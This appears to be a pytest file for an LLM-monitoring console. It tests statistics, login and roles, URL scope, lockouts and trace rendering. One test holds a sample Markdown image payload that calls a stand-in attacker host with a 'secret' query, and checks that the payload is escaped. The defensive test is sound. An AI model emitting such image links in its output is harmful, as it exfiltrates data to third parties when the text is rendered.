"""The console's pure parts: statistics against published values, login, roles, and the URL scope."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from sklearn.metrics import cohen_kappa_score

from llmwatch.core.accounts import LoginThrottle, allowed, hash_password, oidc_role, parse_users, verify
from llmwatch.core.errors import ConfigError
from llmwatch.dashboards.markup import html_block, md
from llmwatch.dashboards.scope import Scope, bucket_seconds, scope_from_params
from llmwatch.dashboards.stats import cohen_kappa, fleiss_kappa, moved_most, project_2d, rate_difference, wilson

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)


def test_wilson_and_newcombe_match_newcombe_1998() -> None:
    # Newcombe (1998), Stat Med 17: 81/263 -> 0.2553-0.3662; 56/70 - 48/80, method 10 -> 0.0524-0.3339.
    assert wilson(81, 263) == pytest.approx((0.2553, 0.3662), abs=5e-5)
    d, low, high = rate_difference(56, 70, 48, 80)
    assert (d, low, high) == pytest.approx((0.2, 0.0524, 0.3339), abs=5e-5)
    assert wilson(0, 0) == (0.0, 1.0)
    assert rate_difference(0, 50, 0, 50)[1] < 0 < rate_difference(0, 50, 0, 50)[2]


def test_fleiss_kappa_matches_the_published_example() -> None:
    # Fleiss (1971) as tabulated on Wikipedia: 10 items, 14 raters, 5 categories, kappa 0.210.
    table = [[0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
             [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7]]
    ratings = [[category for category, n in enumerate(row) for _ in range(n)] for row in table]
    assert fleiss_kappa(ratings) == pytest.approx(0.20993, abs=1e-5)
    assert fleiss_kappa([["toxic"]]) is None  # one rating carries no agreement
    assert fleiss_kappa([["fine", "fine"], ["toxic", "toxic"]]) == 1.0


def test_cohen_kappa_matches_scikit_learn() -> None:
    rng = np.random.default_rng(3)
    a = rng.choice(["fine", "toxic", "hallucinated"], 200).tolist()
    b = [x if rng.random() < 0.7 else rng.choice(["fine", "toxic", "hallucinated"]) for x in a]
    assert cohen_kappa(a, b) == pytest.approx(cohen_kappa_score(a, b))
    assert cohen_kappa([], []) is None
    with pytest.raises(ValueError):
        cohen_kappa(["fine"], [])


def test_projection_separates_shifted_sets_and_moved_most_finds_the_new_cluster() -> None:
    rng = np.random.default_rng(0)
    # Like sentence embeddings: directions around a topic; five current ones on another topic.
    reference = rng.normal(size=(100, 16)) + np.eye(16)[0] * 4
    current = np.concatenate([rng.normal(size=(95, 16)) + np.eye(16)[0] * 4, rng.normal(size=(5, 16)) + np.eye(16)[3] * 4])
    ref_xy, cur_xy = project_2d(reference, current)
    assert ref_xy.shape == (100, 2) and cur_xy.shape == (100, 2)
    assert {i for i, _ in moved_most(reference, current, 5)} == set(range(95, 100))
    assert moved_most(reference[:0], current, 5) == []


def test_passwords_hash_and_verify() -> None:
    hashed = hash_password("correct horse")
    assert verify("correct horse", hashed)
    assert not verify("wrong horse", hashed)
    assert not verify("correct horse", "scrypt$garbage")
    assert hash_password("x") != hash_password("x")  # salted


def test_users_parse_with_clear_errors() -> None:
    hashed = hash_password("pw")
    users = parse_users(f"ada:admin:{hashed}, vic:viewer:{hashed}")
    assert users["ada"].role == "admin" and users["vic"].role == "viewer"
    for spec, message in [
        (f"ada:boss:{hashed}", "role 'boss'"),
        ("ada:admin:plaintext", "not from `llmwatch console hash-password`"),
        (f"ada:admin:{hashed},ada:viewer:{hashed}", "listed twice"),
        ("ada:admin", "expected name:role:hash"),
    ]:
        with pytest.raises(ConfigError, match=message):
            parse_users(spec)


def test_roles_are_ordered_and_oidc_maps_addresses() -> None:
    assert allowed("admin", "release") and allowed("admin", "review")
    assert allowed("reviewer", "review") and not allowed("reviewer", "silence")
    assert allowed("viewer", "query") and not allowed("viewer", "acknowledge")
    assert not allowed("intruder", "view")
    spec = "*@example.com:viewer,boss@example.com:admin"
    assert oidc_role("Boss@Example.com", spec) == "admin"
    assert oidc_role("kim@example.com", spec) == "viewer"
    assert oidc_role("eve@evil.com", spec) == ""
    assert oidc_role(None, spec) == ""


def test_scope_round_trips_through_the_url_and_survives_bad_links() -> None:
    scope, problems = scope_from_params({"range": "6h", "app": "support-bot,docs-rag"}, NOW)
    assert problems == [] and scope.start == NOW - timedelta(hours=6)
    assert scope.filters == {"app": ("support-bot", "docs-rag")}
    again, _ = scope_from_params(scope.to_params(), NOW)
    assert again == scope
    custom, _ = scope_from_params({"range": "custom", "from": "2026-11-20T10:00", "to": "2026-11-20T12:30"}, NOW)
    assert (custom.end - custom.start) == timedelta(hours=2, minutes=30)
    assert scope_from_params(custom.to_params(), NOW)[0] == custom
    bad, problems = scope_from_params({"range": "custom", "from": "yesterday"}, NOW)
    assert bad.range_name == "24h" and problems
    where, params = Scope(NOW - timedelta(hours=1), NOW, filters={"app": ("a",), "model": ("m",)}).where(
        "bucket", skip=("model",))
    assert "app IN {app:Array(String)}" in where and "model" not in where and params["app"] == ["a"]


def test_chart_buckets_keep_about_120_points() -> None:
    assert bucket_seconds(900) == 10
    assert bucket_seconds(86400) == 900
    assert bucket_seconds(30 * 86400) == 6 * 3600


def test_bad_console_settings_are_reported_at_start() -> None:
    from llmwatch.core.settings import Settings

    with pytest.raises(ConfigError, match="OIDC role entry 'a@b.c:boss'"):
        Settings.from_env({"LLMWATCH_CONSOLE_OIDC_ROLES": "a@b.c:boss"})
    with pytest.raises(ConfigError, match="role 'boss'"):
        Settings.from_env({"LLMWATCH_CONSOLE_USERS": f"bob:boss:{hash_password('pw')}"})


def test_unverified_oidc_addresses_get_no_role() -> None:
    spec = "boss@example.com:admin,*@example.com:viewer"
    assert oidc_role("boss@example.com", spec, verified=False) == ""
    assert oidc_role("kim@example.com", spec, verified=False) == ""


def test_failed_sign_ins_lock_a_name_across_sessions() -> None:
    throttle = LoginThrottle(max_failures=3, window_s=60, lockout_s=30)
    for t in (0.0, 1.0, 2.0):
        assert throttle.locked_for("ada", t) == 0
        throttle.failed("ada", t)
    assert throttle.locked_for("ada", 3.0) == pytest.approx(29.0)
    assert throttle.locked_for("bob", 3.0) == 0  # other names are not affected
    assert throttle.locked_for("ada", 33.0) == 0  # the lockout ends
    throttle.failed("ada", 100.0)
    assert throttle.locked_for("ada", 100.5) == 0  # old failures left the window
    throttle.succeeded("ada")
    assert throttle.locked_for("ada", 101.0) == 0


def test_event_text_cannot_inject_markdown() -> None:
    """An LLM answer with a Markdown image would fetch the attacker's URL when a reviewer opens
    the trace; escaped, it is only text."""
    hostile = "![x](https://attacker.example/?q=secret) *bold* $x$ <img src=x>"
    escaped = md(hostile)
    assert re.search(r"(?<!\\)[!\[\]()<>*$]", escaped) is None  # every special character escaped
    assert re.sub(r"\\(.)", r"\1", escaped) == hostile  # nothing lost: only escaped
    block = html_block("a\n\nb")
    assert block == "<div>a<br><br>b</div>" and "\n" not in block


def test_a_trace_tree_orders_steps_depth_first_and_survives_broken_links() -> None:
    from llmwatch.dashboards.trees import waterfall, waterfall_html

    t0 = datetime(2026, 1, 1, tzinfo=UTC)

    def row(span: str, parent: str, at_ms: int, duration: float, **extra: object) -> dict:
        return {"source": "span", "event_id": f"e-{span}", "span_id": span, "parent_span_id": parent,
                "timestamp": t0 + timedelta(milliseconds=at_ms), "name": span, "span_kind": "chain",
                "duration_ms": duration, "error": "", "summary": "", **extra}

    rows = [row("llm", "root", 300, 900.0, source="llm", span_kind="llm"), row("root", "", 0, 1000.0),
            row("tool", "root", 100, 150.0, error="boom <b>"), row("orphan", "gone", 50, 10.0),
            row("a", "b", 500, 1.0), row("b", "a", 600, None)]
    steps = waterfall(rows)
    assert [(s.name, s.depth) for s in steps] == [("root", 0), ("tool", 1), ("llm", 1), ("orphan", 0), ("a", 0),
                                                  ("b", 1)]
    assert [s.name for s in steps if s.slowest] == ["root"]
    assert steps[2].event_id == "e-llm" and steps[0].event_id == ""  # only LLM calls open as trace events
    assert steps[1].start_ms == 100 and steps[5].duration_ms == 0.0
    page = waterfall_html(steps, {"e-llm": "unsupported"})
    assert "boom &lt;b&gt;" in page and "<b>root</b>" in page and "900 ms · unsupported" in page
    assert waterfall([]) == []
